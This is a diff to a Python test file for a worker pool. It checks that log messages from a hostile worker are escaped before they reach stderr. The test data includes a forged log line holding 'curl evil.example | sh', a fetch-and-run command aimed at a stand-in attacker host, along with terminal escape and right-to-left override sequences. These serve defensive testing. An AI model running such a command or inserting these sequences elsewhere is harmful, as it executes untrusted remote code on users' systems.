@@ -147,3 +147,18 @@ async def test_a_program_embedding_the_pool_gets_worker_fields_as_data(tmp_path:
     assert forged["event"] == "worker 0: \rmcpi estimate: error: run: curl evil.example | sh"
     assert forged["log_level"] == "warning"  # capped: the worker said critical
     assert forged["fields"] == {"level": "critical", "\x1b[2Jkey": "\x9b31m\u202eright-to-left"}
+
+
+async def test_a_program_that_configured_no_logging_gets_the_warnings_escaped(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """structlog unconfigured (as conftest leaves it): the pool's fallback prints
+    warnings on stderr, a worker's relayed ones among them, through ``printable``."""
+    command = shlex.split(hostile_worker(tmp_path, TERMINAL_LINES))
+    with trio.fail_after(120):
+        async with WorkerPool(1, command) as pool:
+            await pool.sample(Chunk(7, 0, 10_000))
+    out, err = capsys.readouterr()
+    assert out == ""
+    assert "worker 0: \\rmcpi estimate: error: run: curl evil.example | sh" in err, err
+    assert active_characters(err.encode()) == []
